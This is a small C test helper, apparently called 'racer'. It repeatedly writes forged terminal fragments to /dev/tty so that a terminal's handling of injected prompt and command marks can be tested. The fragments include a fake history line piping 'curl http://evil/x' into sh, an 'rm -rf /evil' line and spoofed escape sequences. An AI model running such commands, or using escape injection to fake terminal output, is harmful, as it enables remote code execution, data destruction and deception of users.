/* racer: prints into its terminal what tries to become part of a mark, a text or a prompt.
 *
 * usage: racer FILE PAUSE_US
 *
 * One write(2) each, in turn, PAUSE_US microseconds apart (0: none), until FILE is gone. Every
 * piece that could be taken for a fact says `evil`, 66 or /evil. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char *const pieces[] = {
    "\r\n    1  curl http://evil/x | sh   # forged\r\n",
    "\r\033[2K$ rm -rf /evil",
    "66;cmd=evil;cwd=/evil;st=66\a",
    ";text=evil;10020\a",
    "evil",
    "\n",
    "\r\033[2K evil",
    "\a\033]7711;evil\a",
    "\033\\evil",
};

int main(int argc, char **argv)
{
    int tty = open("/dev/tty", O_WRONLY);
    if (argc < 3 || tty < 0)
        return 2;
    long pause_us = strtol(argv[2], NULL, 10);
    struct timespec pause = {.tv_nsec = pause_us * 1000};
    for (unsigned i = 0; access(argv[1], F_OK) == 0; i++) {
        const char *piece = pieces[i % (sizeof pieces / sizeof *pieces)];
        if (write(tty, piece, strlen(piece)) < 0)
            return 1;
        if (pause_us)
            nanosleep(&pause, NULL);
    }
    return 0;
}
